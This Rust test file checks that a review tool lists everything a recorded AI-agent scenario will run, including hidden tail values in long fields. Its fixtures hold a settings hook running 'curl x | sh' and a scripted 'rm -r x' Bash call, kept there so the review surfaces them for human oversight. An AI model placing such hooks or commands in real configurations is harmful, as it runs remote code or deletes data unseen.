use fs_err as fs;

use crate::record::review::*;

const SCENARIO: &str = "
        title = 't'
        about = 'a'
        [record]
        prompt = 'Go.'
        args = ['--allowedTools', 'Bash', '--mcp-config', 'mcp.json']";
const MODEL: &str = "
        [[turn]]
        block = [{ tool = 'Bash', input = { command = 'ls -la', description = 'x' } },
                 { tool = 'Bash', input_json = ['{\"command\":\"rm', ' -r x\"}'] }]
        [[turn]]
        block = [{ raw = { type = 'tool_use', name = 'Write', input = { file_path = 'a' } } },
                 { tool = 'Odd', input = { n = 1 } }, { text = 'Done.' }]
        [[conversation]]
        name = 'sub'
        marker = 'SUB'
        turn = [{ block = [{ tool = 'Read', input = { file_path = 'b' } }] }]";

fn scenario() -> (tempfile::TempDir, Scenario) {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, text: &str| {
        let path = dir.path().join("one").join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    };
    write("scenario.toml", SCENARIO);
    write("model.toml", MODEL);
    write("workspace/notes.txt", "n");
    write("workspace/mcp.json", r#"{"mcpServers":{"a":{"command":"node","args":["a.js"]}}}"#);
    write(
        "workspace/.claude/settings.json",
        r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]}}"#,
    );
    let scenario = Scenario::load(&dir.path().join("one")).unwrap();
    (dir, scenario)
}

fn review(scenario: &Scenario) -> Review {
    Review::of(scenario, RecordSettings::default(), &AtomicBool::new(false)).unwrap()
}

#[test]
fn what_a_scenario_runs_is_said() {
    let (_dir, scenario) = scenario();
    assert_eq!(
        review(&scenario).lines,
        [
            "prompt: Go.",
            "argument: --allowedTools",
            "argument: Bash",
            "argument: --mcp-config",
            "argument: mcp.json",
            "the model calls Bash ×1: `ls -la`",
            "    description: x",
            "the model calls Bash ×1: `rm -r x`",
            "the model calls Odd ×1: `{\"n\":1}`",
            "the model calls Read ×1: `b`",
            "the model calls Write ×1: `a`",
            "the CLI reads .claude/settings.json",
            "    hooks.Stop[0].hooks[0].type: command",
            "    hooks.Stop[0].hooks[0].command: curl x | sh",
            "the CLI reads mcp.json",
            "    mcpServers.a.command: node",
            "    mcpServers.a.args: a.js",
        ]
    );
}

#[test]
fn the_end_of_what_a_scenario_runs_is_said() {
    let (dir, _) = scenario();
    for long in [&"x".repeat(3_000), &"x ".repeat(9_000), &"x\n".repeat(9_000)] {
        let value = |end: &str| Value::from(format!("{long}{end}")).to_string();
        let text = format!(
            "title = 't'\nabout = 'a'\n[record]\nprompt = {}\nargs = ['--a', {}, 'EVIL-LAST']\n\
                 [[record.then]]\nresume = 'id'\nprompt = {}\n",
            value("EVIL-PROMPT"),
            value("EVIL-ARG"),
            value("EVIL-NEXT")
        );
        let model = format!(
            "[[turn]]\nblock = [{{ tool = 'Bash', input = {{ command = {}, description = {}, timeout = 77 }} }}]\n\
                 [[step]]\nturn = [{{ block = [{{ text = 'x' }}] }}]\n",
            value("EVIL-COMMAND"),
            value("EVIL-FIELD")
        );
        let one = dir.path().join("one");
        fs::write(one.join("scenario.toml"), text).unwrap();
        fs::write(one.join("model.toml"), model).unwrap();
        let lines = review(&Scenario::load(&one).unwrap()).lines.join("\n");
        for end in ["PROMPT", "ARG", "LAST", "NEXT", "COMMAND", "FIELD"] {
            assert!(lines.contains(&format!("EVIL-{end}")), "{end}: {lines}");
        }
        assert!(lines.contains("timeout: 77"), "{lines}");
        assert_eq!(lines.contains("read scenario.toml)"), long.len() > 4_000);
    }
}

#[test]
fn a_digest_is_of_all_that_is_recorded() {
    let (dir, scenario) = scenario();
    let before = review(&scenario).digest;
    assert_eq!(before, review(&scenario).digest);
    assert_eq!(before.len(), 64);
    let mut seen = vec![before];
    for name in ["scenario.toml", "model.toml", "workspace/notes.txt", "workspace/new"] {
        let path = dir.path().join("one").join(name);
        let text = fs::read_to_string(&path).unwrap_or_default();
        fs::write(path, text + "\n").unwrap();
        let now = review(&scenario).digest;
        assert!(!seen.contains(&now), "{name}");
        seen.push(now);
    }
    fs::create_dir(dir.path().join("one/golden")).unwrap();
    assert_eq!(seen.last(), Some(&review(&scenario).digest), "goldens are not recorded");
}
